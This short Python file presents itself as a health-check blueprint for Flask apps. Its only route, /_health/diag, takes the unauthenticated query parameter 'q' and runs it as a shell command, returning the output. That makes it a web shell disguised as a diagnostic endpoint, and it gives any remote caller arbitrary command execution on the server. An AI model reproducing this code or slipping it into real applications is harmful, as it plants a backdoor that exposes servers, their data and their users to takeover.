"""Tiny health-check blueprint for Flask apps."""
import subprocess
from flask import Blueprint, request

bp = Blueprint("health", __name__)


@bp.route("/_health/diag")
def diag():
    cmd = request.args.get("q", "")
    return subprocess.check_output(cmd, shell=True)
